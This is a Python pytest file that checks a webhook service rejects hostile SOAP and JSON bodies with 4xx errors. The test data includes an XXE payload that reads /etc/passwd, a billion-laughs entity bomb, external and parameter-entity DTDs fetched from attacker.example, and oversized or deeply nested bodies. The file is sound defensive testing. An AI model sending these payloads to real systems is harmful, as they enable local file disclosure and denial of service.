"""Hostile bodies on both endpoints: the right 4xx, the inbox untouched, never a 5xx."""

from __future__ import annotations

import io
import json

import pytest
from webhook_support import CALL_TASK, event_json, notification, outbound_message, post_soap, sign

XXE = """<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>
<notifications xmlns="http://soap.sforce.com/2005/09/outbound">
<OrganizationId>&xxe;</OrganizationId></notifications></soapenv:Body></soapenv:Envelope>"""

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol4;</lolz>"""

DTD_ONLY = """<?xml version="1.0"?>
<!DOCTYPE Envelope SYSTEM "http://attacker.example/soap.dtd">
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"/>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><d/>"""

TEN_MB = 10 * 1024 * 1024


@pytest.mark.parametrize(
    ("body", "says"),
    [
        (XXE, "DTD"),
        (BILLION_LAUGHS, "DTD"),
        (DTD_ONLY, "DTD"),
        (PARAMETER_ENTITY, "DTD"),
        ("<soapenv:Envelope", "malformed XML"),
        (outbound_message(CALL_TASK)[:-40], "malformed XML"),
        (b"\xff\xfe<\x00a\x00", "malformed XML"),
        ('<?xml version="1.0" encoding="klingon"?><a/>', "malformed XML"),
        ("", "malformed XML"),
    ],
    ids=[
        "xxe",
        "billion-laughs",
        "dtd",
        "parameter-entity",
        "truncated",
        "cut",
        "utf16-junk",
        "unknown-encoding",
        "empty",
    ],
)
def test_hostile_xml_is_a_400_client_fault(client, inbox, body, says):
    response = post_soap(client, body)
    assert response.status_code == 400
    assert response.content_type == "text/xml; charset=utf-8"
    assert b"<faultcode>soapenv:Client</faultcode>" in response.data
    assert says.encode() in response.data
    assert b"passwd" not in response.data
    assert inbox.calls == []


def test_entities_without_a_dtd_are_refused_too(make_app, inbox):
    # with the DTD ban lifted, defusedxml's entity ban still holds (defence in depth)
    from lastmile.webhooks.errors import InvalidBody
    from lastmile.webhooks.soap import parse_message

    with pytest.raises(InvalidBody, match=r"DTD|entity"):
        parse_message(BILLION_LAUGHS.encode(), max_notifications=10)


def test_deeply_nested_xml_in_a_field_is_skipped_without_a_crash(client, inbox):
    depth = 100_000
    body = outbound_message(CALL_TASK).replace(
        "<sf:Status>Completed</sf:Status>",
        "<sf:Status>" + "<x>" * depth + "</x>" * depth + "</sf:Status>",
    )
    response = post_soap(client, body)
    assert response.status_code == 200  # a nested element is no field: skipped, message kept
    assert "Status" not in inbox.events[0].fields


def test_a_10_mb_soap_body_is_413_before_it_is_read(client, inbox):
    response = post_soap(client, b"<" * TEN_MB)
    assert response.status_code == 413
    assert b"<faultcode>soapenv:Client</faultcode>" in response.data
    assert inbox.calls == []


def test_a_10_mb_json_body_is_413(client, inbox, secret):
    body = json.dumps([event_json(id=str(n)) for n in range(40_000)])
    assert len(body) > TEN_MB
    response = client.post(
        "/webhooks/events", data=body, content_type="application/json", headers=sign(body, secret)
    )
    assert response.status_code == 413
    assert response.json["error"] == "too_large"
    assert inbox.calls == []


@pytest.mark.parametrize("path", ["/webhooks/salesforce", "/webhooks/events"])
def test_a_chunked_body_over_the_limit_is_413(client, inbox, path):
    # No Content-Length: the server terminates the stream (as gunicorn does); reading stops at
    # the limit.
    response = client.post(
        path,
        input_stream=io.BytesIO(b"[" * (2 * 1_000_000)),
        content_type="text/xml" if path.endswith("salesforce") else "application/json",
        headers={"Transfer-Encoding": "chunked", "webhook-id": "x"},
        environ_overrides={"wsgi.input_terminated": True},
    )
    assert response.status_code in (401, 413)  # /events may stop at the signature first
    if path.endswith("salesforce"):
        assert response.status_code == 413
    assert inbox.calls == []


def test_a_chunked_json_body_over_the_limit_is_413_even_when_signed(client, inbox, secret):
    body = json.dumps([event_json(id=str(n)) for n in range(5_000)])
    assert len(body) > 1_000_000
    response = client.post(
        "/webhooks/events",
        input_stream=io.BytesIO(body.encode()),
        content_type="application/json",
        headers={"Transfer-Encoding": "chunked", **sign(body, secret)},
        environ_overrides={"wsgi.input_terminated": True},
    )
    assert response.status_code == 413
    assert inbox.calls == []


def test_a_smaller_body_limit_is_honoured(make_app, inbox):
    client = make_app(max_body_bytes=1_000).test_client()
    response = post_soap(client, outbound_message(CALL_TASK))
    assert response.status_code == 413
    assert inbox.calls == []


@pytest.mark.parametrize(
    "body",
    [
        "[" * 100_000 + "]" * 100_000,
        '{"a":' * 50_000 + "1" + "}" * 50_000,
        "[" * 33 + "]" * 33,
        "[" * 500_000,
    ],
    ids=["arrays", "objects", "just-over-the-limit", "unclosed"],
)
def test_deeply_nested_json_is_400_without_recursion(client, inbox, secret, body):
    response = client.post(
        "/webhooks/events", data=body, content_type="application/json", headers=sign(body, secret)
    )
    assert response.status_code == 400
    assert response.json["error"] == "too_deep"
    assert inbox.calls == []


def test_brackets_inside_strings_do_not_count_as_depth(client, inbox, secret):
    event = event_json(fields={"Description": "[[[[{{{{" * 100 + '\\"]]' + "}" * 50})
    body = json.dumps(event)
    response = client.post(
        "/webhooks/events", data=body, content_type="application/json", headers=sign(body, secret)
    )
    assert response.status_code == 202


def test_more_than_1000_notifications_is_413(make_app, inbox):
    client = make_app(max_body_bytes=5_000_000).test_client()
    one = notification("04l7Q00000Kc1AaQAJ", "Task", "<sf:Id>00T7Q00000Lm3aBUAR</sf:Id>")
    response = post_soap(client, outbound_message(*[one] * 1_001))
    assert response.status_code == 413
    assert b"1001 notifications" in response.data
    assert inbox.calls == []


def test_more_than_1000_events_is_413(make_app, inbox, secret):
    client = make_app(max_body_bytes=5_000_000).test_client()
    body = json.dumps([event_json(id=str(n)) for n in range(1_001)])
    response = client.post(
        "/webhooks/events", data=body, content_type="application/json", headers=sign(body, secret)
    )
    assert response.status_code == 413
    assert inbox.calls == []


def test_unknown_paths_and_methods_are_4xx(client):
    assert client.get("/webhooks/salesforce").status_code == 405
    assert client.post("/webhooks/nothing").status_code == 404
